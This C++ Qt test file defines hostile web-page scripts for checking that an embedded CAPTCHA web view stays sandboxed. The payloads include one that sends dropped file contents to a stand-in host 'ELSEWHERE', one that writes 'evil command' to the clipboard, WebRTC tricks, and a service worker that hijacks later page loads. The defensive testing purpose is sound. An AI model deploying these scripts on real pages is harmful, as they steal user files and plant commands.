// SPDX-FileCopyrightText: 2026 SmartCaptcha for Qt contributors
// SPDX-License-Identifier: MIT

#include "attack.h"
#include "shared/eventually.h"

#include <QtCore/qdir.h>
#include <QtCore/qmimedata.h>
#include <QtCore/qurl.h>
#include <QtGui/qguiapplication.h>
#include <QtTest/qtest.h>

namespace {

/// What stands in the page under the mouse.
QByteArray target(const QByteArray &element)
{
    return "<div style='position: fixed; top: 0; left: 0'>" + element + "</div>";
}

const QByteArray wide = " style='display: block; width: 300px; height: 100px; font-size: 60px' ";

bool pressUntilItRan(Scene &scene, const HostileSite &site)
{
    scene.press(underTheMouse);
    return eventually([&] { return site.requested("/ran") > 0; }, 1000);
}

} // namespace

// A page that wants out of its place: windows, addresses, files, the clipboard.
QList<Attack> attacksToEscape()
{
    QList<Attack> attacks;
    attacks << Attack{.name = "one press opens many links",
                      .script =
                          "for (const kind of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])"
                          "addEventListener(kind, () => { for (let i = 0; i < 5; ++i)"
                          "open('https://example.com/' + kind + i); });"
                          "addEventListener('click', ran); begun = done;",
                      .act = press,
                      .dones = 2,
                      .watch = 800,
                      .tokens = 0,
                      .links = {QStringLiteral("https://example.com/")}};
    attacks << Attack{.name = "one key opens many links",
                      .script = "onkeydown = () => { open('https://example.com/key'); setTimeout(() => {"
                                "document.links[0].click(); }, 50); setTimeout(() => {"
                                "document.links[0].click(); ran(); }, 300); }; begun = done;",
                      .markup = "<a href='https://example.com/late'>link</a>",
                      .act =
                          [](Scene &scene, HostileSite &site) {
                              const int before = site.done();
                              scene.press(underTheMouse);
                              if (!eventually([&] { return site.done() > before; }, 1000))
                                  return false;
                              QTest::keyClick(QGuiApplication::focusWindow(), Qt::Key_F9);
                              return true;
                          },
                      .dones = 2,
                      .watch = 800,
                      .links = {QStringLiteral("https://example.com/")}};
    attacks << Attack{.name = "color input",
                      .script = "document.querySelector('input').onclick = ran; begun = done;",
                      .markup = target("<input type=color" + wide + ">"),
                      .act = press,
                      .dones = 2,
                      .watch = 800};
    attacks << Attack{.name = "file input",
                      .script = "document.querySelector('input').onclick = ran; begun = done;",
                      .markup = target("<input type=file" + wide + ">"),
                      .act = press,
                      .dones = 2,
                      .watch = 800};
    // The page goes while the engine asks for files.
    attacks << Attack{.name = "file inputs, and then the next page",
                      .script = "document.querySelector('input').onclick = () => { ran();"
                                "for (const how of ['multiple', 'webkitdirectory', 'accept', 'capture']) {"
                                "const input = document.createElement('input'); input.type = 'file';"
                                "input[how] = how === 'multiple' || how === 'webkitdirectory' ? true : '.x';"
                                "document.body.append(input); input.click(); } }; begun = done;",
                      .markup = target("<input type=file" + wide + ">"),
                      .act =
                          [](Scene &scene, HostileSite &site) {
                              if (site.requested("/ran") == 0 && !pressUntilItRan(scene, site))
                                  return false;
                              scene.reload();
                              return true;
                          },
                      .dones = 3,
                      .watch = 800,
                      .loads = 2};
    attacks << Attack{
        .name = "clipboard after a press",
        .script = "onclick = () => { const field = document.querySelector('textarea'); field.select();"
                  "document.execCommand('copy'); document.execCommand('cut');"
                  "try { navigator.clipboard.writeText('evil command'); } catch (problem) {} ran(); };"
                  "document.oncopy = event => { event.clipboardData.setData('text/plain', 'evil command');"
                  "event.preventDefault(); }; begun = done;",
        .markup = target("<textarea" + wide + ">evil command</textarea>"),
        .act = press,
        .dones = 2,
        .watch = 500};
    attacks << Attack{.name = "dropped file",
                      .script =
                          "ondragover = event => event.preventDefault(); ondrop = event => {"
                          "event.preventDefault(); for (const file of event.dataTransfer.files)"
                          "file.text().then(text => fetch('ELSEWHERE/dropped?' + text, {mode: 'no-cors'}));"
                          "fetch('ELSEWHERE/dropped?' + event.dataTransfer.types, {mode: 'no-cors'}); };"
                          "addEventListener('pointerdown', ran); begun = done;",
                      .act =
                          [](Scene &scene, HostileSite &site) {
                              // What is dropped there would reach the page if it were let through.
                              if (!pressUntilItRan(scene, site))
                                  return false;
                              QMimeData data;
                              data.setUrls({QUrl::fromLocalFile(QStringLiteral("/etc/hostname"))});
                              scene.drop(data, underTheMouse);
                              return true;
                          },
                      .dones = 2,
                      .watch = 500};
    attacks << Attack{.name = "a drag out of the page",
                      .script = "document.ondragstart = event => { event.dataTransfer.setData('text/plain',"
                                "'evil'); fetch('ELSEWHERE/drag', {mode: 'no-cors'}); };"
                                "onpointermove = event => { if (event.buttons) ran(); }; begun = done;",
                      .markup = target("<div draggable=true" + wide + ">slide me</div>"),
                      .act =
                          [](Scene &scene, HostileSite &) {
                              scene.drag(underTheMouse);
                              return true;
                          },
                      .dones = 2,
                      .watch = 800};
    attacks << Attack{.name = "WebRTC",
                      .script =
                          "begun = () => { try { const connection = new RTCPeerConnection({iceServers: ["
                          "{urls: 'stun:UDP'}]}); connection.createDataChannel('x');"
                          "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
                          "} finally { ran(); done(); } };",
                      .watch = 1200};
    attacks << Attack{.name = "WebRTC of an empty frame",
                      .script =
                          "begun = () => { try { const frame = document.body.appendChild("
                          "document.createElement('iframe')); const connection ="
                          "new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
                          "connection.createDataChannel('x');"
                          "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
                          "} finally { ran(); done(); } };",
                      .watch = 1200};
    attacks << Attack{.name = "WebRTC of an empty frame in the markup",
                      .script = "begun = () => { if (window.tried) ran(); done(); };",
                      .markup =
                          "<iframe></iframe><script>try { const connection ="
                          "new frames[1].RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
                          "connection.createDataChannel('x');"
                          "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
                          "} catch (problem) {} window.tried = true;</script>",
                      .watch = 1200};
    attacks << Attack{.name = "WebRTC after document.open()",
                      .script =
                          "begun = () => { window.Element = 1; document.open(); document.write("
                          "'<body><script>setTimeout(() => { try { const frame = document.body.appendChild("
                          "document.createElement(\"iframe\")); const connection ="
                          "new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: \"stun:UDP\"}]});"
                          "connection.createDataChannel(\"x\"); connection.createOffer().then(offer =>"
                          "connection.setLocalDescription(offer)); } finally { ran(); done(); } }, 100);"
                          "<\\/script>'); document.close(); };",
                      .watch = 1200};
    attacks << Attack{.name = "clipboard after a press, with functions replaced",
                      .script =
                          "window.getSelection = () => null; Selection.prototype.removeAllRanges = () => {};"
                          "Event.prototype.stopImmediatePropagation = HTMLElement.prototype.blur = () => {};"
                          "Object.defineProperty(Document.prototype, 'activeElement', {get() { throw 1; }});"
                          "onclick = () => { const field = document.querySelector('textarea'); field.focus();"
                          "field.select(); document.execCommand('copy'); ran(); };"
                          "document.oncopy = event => { event.clipboardData.setData('text/plain', 'evil');"
                          "event.preventDefault(); }; begun = done;",
                      .markup = target("<textarea" + wide + ">evil command</textarea>"),
                      .act = press,
                      .dones = 2,
                      .watch = 500};
    attacks << Attack{.name = "scripts of the program's resources, in XHTML",
                      .script = "",
                      .prepare =
                          [](HostileSite &site) {
                              site.add(
                                  "/page", "application/xhtml+xml",
                                  "<html xmlns='http://www.w3.org/1999/xhtml'><head><script "
                                  "src='qrc:/qtwebchannel/qwebchannel.js'/><script>if (window.QWebChannel) "
                                  "fetch('ELSEWHERE/resource', {mode: 'no-cors'}); fetch('/done');"
                                  "</script></head><body/></html>");
                          },
                      .isSilent = true,
                      .proof = {"/page"},
                      .deadline = 2500,
                      .error = SmartCaptchaError::Code::LoadFailed};
    attacks << Attack{.name = "scripts of the program's resources",
                      .script = "begun = () => { const script = document.createElement('script');"
                                "script.src = 'qrc:/qtwebchannel/qwebchannel.js';"
                                "script.onload = script.onerror = () => { if (window.QWebChannel)"
                                "fetch('ELSEWHERE/resource', {mode: 'no-cors'}); ran(); };"
                                "document.head.append(script); done(); };",
                      .watch = 600};
    attacks << Attack{
        .name = "alert, confirm, prompt",
        .script = "begun = () => { alert('a'); confirm('b'); prompt('c', 'd'); print(); ran(); done(); };",
        .watch = 600};
    attacks << Attack{.name = "beforeunload",
                      .script =
                          "onbeforeunload = event => { event.preventDefault(); event.returnValue = 'stay'; };"
                          "addEventListener('pointerdown', ran); begun = done;",
                      .act =
                          [](Scene &scene, HostileSite &site) {
                              // A page that nobody has pressed in may not ask.
                              if (!pressUntilItRan(scene, site))
                                  return false;
                              scene.reload();
                              return true;
                          },
                      .dones = 3,
                      .watch = 2500,
                      .loads = 2,
                      .staysReady = true};
    attacks << Attack{.name = "context menu",
                      .script = "oncontextmenu = ran; begun = done;",
                      .markup = target("<textarea" + wide + ">text</textarea>"),
                      .act =
                          [](Scene &scene, HostileSite &) {
                              QTest::mouseClick(scene.window(), Qt::RightButton, {},
                                                scene.inWindow(underTheMouse));
                              return true;
                          },
                      .dones = 2,
                      .watch = 600};
    attacks << Attack{.name = "user name and password",
                      .script = "begun = () => { fetch('/locked').finally(() => { ran(); done(); }); };",
                      .prepare =
                          [](HostileSite &site) {
                              site.respond("/locked",
                                           ScriptedServer::answer("no", "401 Unauthorized",
                                                                  "WWW-Authenticate: Basic realm=\"x\"\r\n"));
                          },
                      .proof = {"/ran", "/locked"},
                      .watch = 600};
    attacks << Attack{.name = "redirect elsewhere",
                      .script = "ran(); location.href = 'ELSEWHERE/page'; begun = done;",
                      .watch = 800};
    attacks << Attack{.name = "service worker of one load answers the next",
                      .script = "navigator.serviceWorker.register('/worker.js').then(() =>"
                                "navigator.serviceWorker.ready).then(() => { ran(); "
                                "done(); }, e => { console.log('no: ' + e); done(); });",
                      .prepare =
                          [](HostileSite &site) {
                              // Only pages, or it could also take what done() sends.
                              site.add("/worker.js", "text/javascript",
                                       "oninstall = () => skipWaiting(); onactivate = () => clients.claim();"
                                       "onfetch = event => { if (event.request.mode === 'navigate')"
                                       "event.respondWith(new Response('<html><script>"
                                       "fetch(\"ELSEWHERE/worker\", {mode: \"no-cors\"})</script></html>',"
                                       "{headers: {'Content-Type': 'text/html'}})); };");
                          },
                      .act = loadAgain,
                      .dones = 2,
                      .watch = 500,
                      .loads = 2};
    return attacks;
}
